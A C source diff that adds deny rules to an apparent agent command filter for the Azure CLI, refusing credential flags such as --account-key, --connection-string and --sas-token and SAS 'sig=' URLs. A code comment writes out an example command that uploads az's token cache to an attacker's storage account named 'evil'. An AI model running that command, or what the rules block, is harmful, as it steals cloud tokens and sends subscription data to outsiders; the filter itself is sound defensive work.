@@ -660,6 +660,26 @@ static char *access_token(worker_ctx *w, const auth_ctx *who, const store_connec
  *                                       must go on with '/', '?', '#' or end
  *   az rest --resource                  refused: az sends that resource's token
  *                                       to the --url, whatever its host
+ *   --account-key, --connection-string, refused (any command; -c in az iot hub
+ *   --sas-token, --<x>-account-key,     routing-endpoint): a credential in the
+ *   --<x>-connection-string,            command authenticates as whoever issued
+ *   --<x>-sas-token                     it, so `az storage blob upload
+ *                                       --account-name evil --account-key K -f
+ *                                       .azure/msal_token_cache.json` copies az's
+ *                                       token cache to an attacker's account
+ *                                       (443 is open); the --<x>- ones send the
+ *                                       subscription's data to such a destination
+ *                                       (export, copy, routing).  --account-name
+ *                                       with --auth-mode key stays: az looks the
+ *                                       key up with the connection's token, so
+ *                                       only for an account the subscription
+ *                                       holds.  az's AZURE_STORAGE_KEY,
+ *                                       _CONNECTION_STRING, _SAS_TOKEN variables
+ *                                       never come from the server (the agent's
+ *                                       allowlist, agent/cloud_az.c)
+ *   ?sig= or &sig= in any argument      refused: a SAS inside a URL (--blob-url,
+ *   (percent-encoded too)               upload-batch -d, storage copy -d) is the
+ *                                       same credential as --sas-token
  * az accepts unambiguous prefixes (`--subs X` is --subscription, checked with
  * the real az): an abbreviation of these flags is refused, as is az's
  * "@file" argument indirection.  Its command words always come first. */
@@ -668,6 +688,11 @@ static char *access_token(worker_ctx *w, const auth_ctx *who, const store_connec
 #define AZ_PROFILE_SUB(ctx)                                                                       \
     { .name = "--name", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = ctx }, \
     { .name = "-n", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = ctx }
+#define WHY_AZ_CREDENTIAL                                                                   \
+    "a credential in the command authenticates as whoever issued it (another account's "    \
+    "too); the Azure connector chooses the identity commands run as"
+#define AZ_CONNECTOR_FLAGS(ctx)                                                             \
+    { .name = "--connection", .context = ctx }, { .name = "--account", .context = ctx }
 static const cloud_flag az_flags[] = {
     AZ_PROFILE_SUB("account set"),
     AZ_PROFILE_SUB("account show"),
@@ -680,6 +705,21 @@ static const cloud_flag az_flags[] = {
       .why = "az would send that resource's token to the --url, whatever its host" },
     { .name = "-s", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = "account" },
     { .name = "--subscription", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1 },
+    { .name = "--account-key", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    { .name = "--connection-string", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    { .name = "--sas-token", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    { .name = "--*-account-key", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    { .name = "--*-connection-string", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    { .name = "--*-sas-token", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
+    /* the routing endpoint's --connection-string */
+    { .name = "-c", .kind = CLOUD_FLAG_REFUSE, .context = "iot hub routing-endpoint",
+      .why = "the --connection-string (-c) of another resource: " WHY_AZ_CREDENTIAL },
+    /* full flags that begin like the refused ones (else read as their
+     * abbreviations): Data Lake's account, Service Connector's connection */
+    { .name = "--account", .context = "dls" }, { .name = "--account", .context = "dla" },
+    AZ_CONNECTOR_FLAGS("webapp connection"), AZ_CONNECTOR_FLAGS("functionapp connection"),
+    AZ_CONNECTOR_FLAGS("spring connection"), AZ_CONNECTOR_FLAGS("spring-cloud connection"),
+    AZ_CONNECTOR_FLAGS("containerapp connection"),
     /* value shorthands that `az account …` commands share: "-otsv" is -o tsv */
     { .name = "-o", .context = "account" }, { .name = "-g", .context = "account" },
     { .name = "-n", .context = "account" }, { .name = "-t", .context = "account" },
@@ -689,8 +729,13 @@ static const cloud_cmd az_cmds[] = {
     { .words = "login", .why = "the Azure connector chooses the identity commands run as" },
     { .words = NULL },
 };
+#define WHY_AZ_SAS                                                                           \
+    "it holds a shared access signature (sig=), a credential that authenticates as whoever " \
+    "signed it; the Azure connector chooses the identity commands run as"
 static const cloud_ref az_refs[] = {
     { .prefix = "/subscriptions/", .dest = AZ_SUB },
+    /* a SAS in a URL's query (--blob-url, upload-batch -d, storage copy) */
+    { .prefix = "?sig=", .why = WHY_AZ_SAS }, { .prefix = "&sig=", .why = WHY_AZ_SAS },
     { .prefix = NULL, .suffix = NULL },
 };
 static const cloud_cli az_argv = {
